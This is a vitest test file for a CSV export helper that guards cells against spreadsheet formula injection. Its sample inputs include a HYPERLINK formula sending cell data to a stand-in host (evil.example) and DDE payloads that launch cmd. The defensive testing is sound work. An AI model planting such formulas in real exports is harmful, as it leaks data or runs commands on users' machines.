import { describe, expect, it } from "vitest";
import { csvCell, parseCsv, toCsv, unguardCsvCell } from "./csv.ts";

describe("csvCell against formula injection (OWASP)", () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?"&A1,"refund")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "=cmd|' /C notepad'!'A1'",
    "-",
    "+",
  ];
  for (const formula of formulas) {
    it(`guards ${JSON.stringify(formula)} with a leading apostrophe`, () => {
      const [row] = parseCsv(`${csvCell(formula)}\n`);
      const cell = row!.cells[0]!;
      expect(cell.startsWith("'")).toBe(true);
      expect(cell.slice(1)).toBe(formula.replace(/\r$/, ""));
      expect(unguardCsvCell(cell)).toBe(formula);
    });
  }

  it("keeps numbers, negative ones too, as numbers", () => {
    for (const number of ["-12.50", "-5", "12", "0.5", "-1e3", "-.5"]) expect(csvCell(number)).toBe(number);
    expect(csvCell(-12.5)).toBe("-12.5");
    expect(csvCell(Number.NaN)).toBe("");
  });

  it("leaves text that a spreadsheet does not run alone", () => {
    expect(csvCell("Lamp - brass")).toBe("Lamp - brass");
    expect(csvCell("a@b.example")).toBe("a@b.example");
    expect(csvCell("'quoted'")).toBe("'quoted'");
    expect(unguardCsvCell("'quoted'")).toBe("'quoted'");
  });

  it("doubles quotes and quotes cells with commas or line breaks, so no cell spills into the next", () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    const csv = toCsv(["title", "price"], [{ title: '=1+1,"x"\n=2', price: "-3.00" }]);
    expect(csv).toBe(`title,price\n"'=1+1,""x""\n=2",-3.00\n`);
    const [, row] = parseCsv(csv);
    expect(row!.cells).toEqual(['\'=1+1,"x"\n=2', "-3.00"]);
  });
});
